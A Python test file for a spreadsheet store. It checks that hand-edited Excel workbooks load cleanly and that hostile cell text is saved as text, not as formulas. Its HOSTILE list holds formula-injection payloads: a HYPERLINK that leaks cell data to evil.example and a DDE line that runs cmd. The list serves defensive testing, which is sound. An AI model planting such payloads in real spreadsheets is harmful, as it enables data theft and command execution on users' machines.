"""Issue 10, "Hand-edited books": rows deleted, columns reordered or renamed, merged cells, dates as text,
formulas where values are expected, hidden rows, a table resized by hand — load understands them or names every
problem, and a save after the edit loses nothing. And "Formula injection": hostile text stays text.

The books are written by xlsxwriter the way Excel stores them (formulas with their computed values); the expected
records are the values typed below, not anything the store produced.
"""
from __future__ import annotations

import datetime as dt
import re
import zipfile
from dataclasses import replace
from decimal import Decimal

import openpyxl
import pytest

from engine.store.book import Book
from tests.store.books import headers, user_book
from tests.store.office import convert, needs_soffice

CLIENTS = headers("Clients")
DOCUMENTS = headers("Documents")
PEOPLE = [(1, "Muster AG", "Zürich"), (2, "Dupont Sàrl", "Lausanne"), (3, "Rossi SA", "Lugano"),
          (4, "Meier GmbH", "Bern")]


def client_row(cid, company, town, order=CLIENTS, **more):
    values = dict(ClientId=cid, Company=company, Town=town, Discount=2.5, **more)
    return [values.get(h) for h in order]


def people(order=CLIENTS):
    return [client_row(*p, order=order) for p in PEOPLE]


def loaded(path):
    book = Book.open(path)
    return book, [(c.client_id, c.company, c.town, c.row) for c in book.records("Clients")]


def errors(book):
    found = {}
    for p in book.problems:
        if p.severity == "error":
            found.setdefault(f"{p.source.column}{p.source.row}", []).append(p.message)
    return found


def save_with_change(path, **change):
    book = Book.open(path)
    clients = list(book.records("Clients"))
    clients[0] = replace(clients[0], **change)
    book.put("Clients", clients)
    book.save()


def test_emptied_rows_are_skipped_and_the_rest_keep_their_rows(tmp_path):
    rows = people()
    rows[1] = [None] * len(CLIENTS)  # a person cleared row 3
    path = user_book(tmp_path / "b.xlsx", {"Clients": (CLIENTS, rows)})
    book, records = loaded(path)
    assert records == [(1, "Muster AG", "Zürich", 2), (3, "Rossi SA", "Lugano", 4), (4, "Meier GmbH", "Bern", 5)]
    assert not errors(book)
    save_with_change(path, town="Winterthur")
    assert loaded(path)[1] == [(1, "Muster AG", "Winterthur", 2), (3, "Rossi SA", "Lugano", 3),
                               (4, "Meier GmbH", "Bern", 4)]


def test_reordered_columns_are_found_by_their_header(tmp_path):
    order = list(reversed(CLIENTS))
    path = user_book(tmp_path / "b.xlsx", {"Clients": (order, people(order))})
    book, records = loaded(path)
    assert records == [(*p, n) for n, p in enumerate(PEOPLE, start=2)]
    assert [c.discount for c in book.records("Clients")] == [Decimal("2.5")] * 4
    assert not book.problems
    save_with_change(path, town="Genève")
    sheet = openpyxl.load_workbook(path)["Clients"]
    assert sheet.cell(2, order.index("Town") + 1).value == "Genève"
    assert sheet.cell(2, order.index("ClientId") + 1).value == 1


def test_a_renamed_column_is_named_and_its_values_survive_a_save(tmp_path):
    # (not Firma nor Société: another language's word for Company reads as Company, tests/store/test_languages.py)
    renamed = ["Kundenfirma" if h == "Company" else h for h in CLIENTS]
    path = user_book(tmp_path / "b.xlsx", {"Clients": (renamed, people())})
    book, records = loaded(path)
    warnings = [str(p) for p in book.problems]
    assert any('column "Company" is missing' in w and "Clients row 1" in w for w in warnings)
    assert [r[1] for r in records] == [None] * 4
    save_with_change(path, town="Genève")
    sheet = openpyxl.load_workbook(path)["Clients"]
    assert [sheet.cell(n, 2).value for n in range(1, 6)] == ["Kundenfirma"] + [p[1] for p in PEOPLE]
    assert sheet["I2"].value == "Genève"


def test_merged_cells(tmp_path):
    # Excel refuses merged cells inside a table, so the person first turned the table into a plain range.
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    sheet.title = "Clients"
    for row in [CLIENTS] + people():
        sheet.append(row)
    sheet.merge_cells("A3:A4")  # one ClientId over two rows: row 4 has none
    sheet.merge_cells("B2:C2")  # Company spread over Title
    path = tmp_path / "b.xlsx"
    workbook.save(path)
    book, records = loaded(path)
    assert records[0][:2] == (1, "Muster AG") and book.records("Clients")[0].title is None
    assert records[2] == (None, "Rossi SA", "Lugano", 4)  # the row is kept, its missing id named
    assert errors(book) == {"A4": ["ClientId is empty"]}


def test_dates_typed_as_text(tmp_path):
    def document(number, date):
        return [dict(Number=number, Stage="F", ClientId=1, Date=date).get(h) for h in DOCUMENTS]

    rows = [document("R-1", "31.01.2026"), document("R-2", "2026-02-28"), document("R-3", "5.3.26"),
            document("R-4", "31.13.2026"), document("R-5", "Mitte März")]

    def real_date(workbook, sheets):
        sheets["Documents"].write_datetime("E7", dt.datetime(2026, 4, 1), workbook.add_format({"num_format": "dd.mm.yyyy"}))
        sheets["Documents"].write("A7", "R-6")
        sheets["Documents"].write("B7", "F")
        sheets["Documents"].write("D7", 1)

    path = user_book(tmp_path / "b.xlsx", {"Clients": (CLIENTS, people()), "Documents": (DOCUMENTS, rows)}, real_date)
    book = Book.open(path)
    dates = [(d.number, d.date) for d in book.records("Documents")]
    assert dates == [("R-1", dt.date(2026, 1, 31)), ("R-2", dt.date(2026, 2, 28)), ("R-3", dt.date(2026, 3, 5)),
                     ("R-4", None), ("R-5", None), ("R-6", dt.date(2026, 4, 1))]
    problems = errors(book)
    assert set(problems) == {"E5", "E6"}
    # One message per cell, saying what is wrong with what was typed (not "empty": it is not).
    assert problems == {"E5": ['"31.13.2026" is not a calendar date'], "E6": ['"Mitte März" is not a date']}


def test_formulas_where_values_are_expected_read_their_value_and_survive_a_save(tmp_path):
    def formulas(workbook, sheets):
        sheets["Clients"].write_formula("A5", "=A4+1", None, 4)
        sheets["Clients"].write_formula("O5", "=O4*2", None, 5)
        sheets["Clients"].write_formula("B5", '="Meier "&"GmbH"', None, "Meier GmbH")

    path = user_book(tmp_path / "b.xlsx", {"Clients": (CLIENTS, people())}, formulas)
    book, records = loaded(path)
    assert records[3] == (4, "Meier GmbH", "Bern", 5)
    assert book.records("Clients")[3].discount == Decimal("5")
    assert not errors(book)
    clients = list(book.records("Clients"))
    clients[3] = replace(clients[3], town="Thun")  # the formula row itself is edited
    book.put("Clients", clients)
    book.save()
    sheet = openpyxl.load_workbook(path)["Clients"]
    assert (sheet["A5"].value, sheet["O5"].value, sheet["I5"].value) == ("=A4+1", "=O4*2", "Thun")


def test_hidden_rows_are_read_and_stay_hidden(tmp_path):
    def hide(workbook, sheets):
        sheets["Clients"].set_row(2, None, None, {"hidden": True})  # row 3

    path = user_book(tmp_path / "b.xlsx", {"Clients": (CLIENTS, people())}, hide)
    assert [r[0] for r in loaded(path)[1]] == [1, 2, 3, 4]
    save_with_change(path, town="Olten")
    sheet = openpyxl.load_workbook(path)["Clients"]
    assert sheet.row_dimensions[3].hidden and sheet["B3"].value == "Dupont Sàrl"


def test_a_table_shrunk_by_hand_loses_no_row(tmp_path):
    path = user_book(tmp_path / "b.xlsx", {"Clients": (CLIENTS, people())})
    with zipfile.ZipFile(path) as package:
        parts = {n: package.read(n) for n in package.namelist()}
    parts["xl/tables/table1.xml"] = parts["xl/tables/table1.xml"].replace(b'ref="A1:T5"', b'ref="A1:T3"')
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for name, data in parts.items():
            out.writestr(name, data)
    assert openpyxl.load_workbook(path)["Clients"].tables["tblClients"].ref == "A1:T3"
    assert [r[0] for r in loaded(path)[1]] == [1, 2, 3, 4]  # rows under the table are records too
    save_with_change(path, town="Chur")
    assert openpyxl.load_workbook(path)["Clients"].tables["tblClients"].ref == "A1:T5"
    assert [r[0] for r in loaded(path)[1]] == [1, 2, 3, 4]


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3",
           "=1+1", "\t=1", "<b>&amp;</b>"]


@pytest.fixture
def injected(tmp_path):
    path = user_book(tmp_path / "inj.xlsx", {"Clients": (CLIENTS, people())})
    book = Book.open(path)
    clients = list(book.records("Clients"))
    clients[0] = replace(clients[0], company=HOSTILE[0], notes=HOSTILE[1])
    clients.extend(book.new("Clients", client_id=10 + i, company=text, town=text) for i, text in enumerate(HOSTILE))
    book.put("Clients", clients)
    book.save()
    return path


def _expected_cells():
    cells = {"B2": HOSTILE[0], "T2": HOSTILE[1]}
    for i, text in enumerate(HOSTILE):
        cells[f"B{6 + i}"] = cells[f"I{6 + i}"] = text
    return cells


def test_hostile_text_is_saved_as_text_never_a_formula(injected):
    with zipfile.ZipFile(injected) as package:
        xml = package.read("xl/worksheets/sheet1.xml")
    for ref in _expected_cells():
        cell = re.search(rb'<c r="%s"[^>]*?(?:/>|>.*?</c>)' % ref.encode(), xml, re.S)[0]
        assert b"<f>" not in cell and b"<f " not in cell, cell
        assert re.search(rb't="(inlineStr|s|str)"', cell), cell
    sheet = openpyxl.load_workbook(injected)["Clients"]
    for ref, text in _expected_cells().items():
        assert sheet[ref].data_type == "s" and sheet[ref].value == text, ref
    assert [c.company for c in Book.open(injected).records("Clients")[4:]] == [t.strip() for t in HOSTILE]


@needs_soffice
def test_libreoffice_reads_hostile_text_as_text(injected, tmp_path):
    sheet = openpyxl.load_workbook(convert(injected, tmp_path / "lo"))["Clients"]
    for ref, text in _expected_cells().items():
        assert sheet[ref].data_type == "s" and sheet[ref].value == text, ref
